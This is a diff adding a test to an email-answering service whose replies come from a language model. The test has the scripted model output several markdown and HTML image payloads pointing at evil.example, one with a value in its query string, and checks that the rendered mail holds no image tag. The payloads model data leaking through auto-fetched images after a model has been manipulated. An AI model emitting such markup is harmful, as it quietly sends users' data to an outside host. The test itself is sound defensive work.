@@ -89,6 +89,24 @@ test('a mail is answered to its writer, in its thread, as text and as a page wit
   ]);
 });
 
+test('a mail shows no picture: its reader fetches nothing that a model was led to write', async () => {
+  const hostile = [
+    '![Look](https://evil.example/a?told=4711)',
+    '!!![and](https://evil.example/b)',
+    '![![in](https://evil.example/c) it](https://evil.example/d)',
+    '[![in a link](https://evil.example/e)](https://evil.example/f)',
+    '![by name][name]',
+    '<img src="https://evil.example/g">',
+  ];
+  provider.script = { pieces: [`${hostile.join('\n\n')}\n\n[name]: https://evil.example/h`] };
+  await post(await written());
+  await arrived(1);
+  provider.script = { pieces };
+  const { html = '' } = mail.mails[0] ?? {};
+  expect(html).not.toMatch(/<img\b/);
+  expect(html).toContain('<a href="https://evil.example/a?told=4711">Look</a>');
+});
+
 test('an answer to the answer goes on in the same conversation, without what it quotes', async () => {
   await post(await written());
   await arrived(1);
